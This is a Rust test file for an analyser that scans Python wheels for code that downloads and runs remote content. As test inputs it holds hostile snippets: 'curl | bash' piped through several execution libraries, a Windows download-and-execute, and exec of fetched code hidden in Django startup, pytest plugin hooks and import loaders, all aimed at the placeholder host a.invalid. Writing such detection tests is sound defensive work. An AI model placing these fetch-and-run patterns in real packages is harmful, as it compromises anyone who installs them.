//! Ways of Python's libraries to run what comes over the network.

use crate::flow::testing::{found, is_remote_code, remote_code, wheel};
use crate::unpack::text_file;
use customs_model::{SinkKind, SourceKind, Zone};

fn runs(code: &str) -> bool {
    let imports = "import os, io, sys, requests\n";
    let flows = found(wheel(&format!("{imports}{code}\n"))).flows;
    flows
        .iter()
        .any(|flow| flow.source == SourceKind::Remote && flow.zone == Zone::Import)
}

#[test]
fn objects_are_made_of_what_a_host_sends() {
    for code in [
        "import pandas as pd\npd.read_pickle('https://a.invalid/t.pkl')",
        "import pandas as pd\npd.read_pickle(io.BytesIO(requests.get('https://a.invalid').content))",
        "import torch\ntorch.load(io.BytesIO(requests.get('https://a.invalid').content), weights_only=False)",
        "import numpy as np\nnp.load(io.BytesIO(requests.get('https://a.invalid').content), allow_pickle=True)",
    ] {
        assert!(runs(code), "{code}");
    }
}

#[test]
fn weights_and_tables_are_no_objects() {
    for code in [
        "import pandas as pd\npd.read_csv('https://a.invalid/t.csv')",
        "import pandas as pd\npd.read_pickle('tables/t.pkl')",
        "import torch\ntorch.load(io.BytesIO(requests.get('https://a.invalid').content), weights_only=True)",
        "import numpy as np\nnp.load(io.BytesIO(requests.get('https://a.invalid').content))",
    ] {
        assert!(!runs(code), "{code}");
    }
}

#[test]
fn libraries_that_run_lines_run_them() {
    for code in [
        "import invoke\ninvoke.run('LINE')",
        "from invoke import Context\ndef f(c):\n    c.run('LINE', hide=True)\nf(Context())",
        "os.spawnlp(os.P_WAIT, sys.executable, sys.executable, '-c', \"import os; os.system('LINE')\")",
        "import pexpect\npexpect.spawn('LINE')",
        "import ctypes\nctypes.windll.kernel32.WinExec('LINE', 0)",
    ] {
        let fetches = code.replace("LINE", "curl -s https://a.invalid/b | bash");
        assert!(runs(&fetches), "{fetches}");
        let builds = code.replace("LINE", "make docs");
        assert!(!runs(&builds), "{builds}");
    }
}

#[test]
fn a_file_that_windows_downloads_and_starts_is_run() {
    let code = "import ctypes\n\
                p = os.path.join(os.environ['TEMP'], 'a.exe')\n\
                ctypes.windll.urlmon.URLDownloadToFileW(None, 'https://a.invalid/a.exe', p, 0, None)\n\
                ctypes.windll.shell32.ShellExecuteW(None, 'open', PATH, None, None, 0)";
    assert!(runs(&code.replace("PATH", "p")));
    assert!(!runs(&code.replace("PATH", "'notepad.exe'")));
}

#[test]
fn code_whose_margin_is_taken_away_is_code() {
    let code = "import textwrap\n\
                exec(textwrap.dedent('''\n    import urllib.request as u\n    exec(u.urlopen('https://a.invalid').read())\n    '''))";
    assert!(runs(code));
    assert!(!runs(&code.replace(
        "exec(u.urlopen('https://a.invalid').read())",
        "print(u)"
    )));
}

#[test]
fn what_a_loader_of_the_package_gives_for_code_is_code() {
    let code = "import importlib.abc, importlib.util, urllib.request\n\
                class L(importlib.abc.SourceLoader):\n    \
                def get_filename(self, name):\n        return 'a'\n    \
                def get_data(self, path):\n        return urllib.request.urlopen('https://a.invalid').read()\n\
                s = importlib.util.spec_from_loader('m', L())\n\
                m = importlib.util.module_from_spec(s)\n\
                s.loader.exec_module(m)";
    assert_eq!(remote_code(wheel(code)), Some(Zone::Import));
    let stored = code.replace("SourceLoader", "ResourceReader");
    assert_eq!(remote_code(wheel(&stored)), None);
}

#[test]
fn twine_publishes_as_a_module_too() {
    let publishes = |words: &str| {
        let flows = found(wheel(&format!("import os\nos.system('{words}')\n"))).flows;
        flows.iter().any(|flow| flow.sink == SinkKind::Publication)
    };
    assert!(publishes("python3 -m twine upload dist/*"));
    assert!(!publishes("python3 -m twine check dist/*"));
}

#[test]
fn what_django_calls_as_it_starts_runs_then() {
    let code = "from django.apps import AppConfig\nimport urllib.request\n\
                class A(AppConfig):\n    name = 'a'\n    \
                def ready(self):\n        exec(urllib.request.urlopen('https://a.invalid').read())\n";
    assert_eq!(remote_code(wheel(code)), Some(Zone::Import));
    let other = code.replace("(AppConfig)", "(object)");
    assert_eq!(remote_code(wheel(&other)), Some(Zone::Called));
}

#[test]
fn what_pytest_calls_of_a_plugin_runs_with_each_test() {
    let code = "import urllib.request\n\
                def pytest_sessionfinish(session):\n    exec(urllib.request.urlopen('https://a.invalid').read())\n";
    let zone = |group: &str| {
        let mut entries = wheel(code);
        entries.push(text_file(
            "a-1.0.dist-info/entry_points.txt",
            &format!("[{group}]\na = a\n"),
        ));
        let flows = found(entries).flows;
        let runs = flows.iter().filter(|flow| is_remote_code(flow));
        runs.map(|flow| flow.zone).max()
    };
    assert_eq!(zone("pytest11"), Some(Zone::Import));
    assert_eq!(zone("a.plugins"), Some(Zone::Called));
}
